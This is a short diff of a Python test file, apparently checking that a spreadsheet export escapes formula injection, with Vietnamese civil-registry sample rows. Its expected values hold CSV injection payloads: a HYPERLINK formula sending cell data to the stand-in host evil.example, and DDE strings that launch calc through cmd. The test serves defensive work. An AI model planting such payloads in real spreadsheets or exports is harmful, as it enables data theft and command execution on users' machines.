@@ -38,7 +38,7 @@ ROWS = [
     _row(6),  # an ordinary row passes unchanged
 ]
 EXPECTED = {
-    "H27.99-250305-0001": ("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")", HUGE[:1000]),
+    "H27.99-250305-0001": ('\'=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', HUGE[:1000]),
     "H27.99-250305-0002": ("'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
     "H27.99-250305-0003": ("UBND xã Lạc Vệ", "'-2+3+cmd|' /C calc'!A0"),
     "'=1+1": ("UBND phường Vũ Ninh", "Đăng ký khai sinh"),
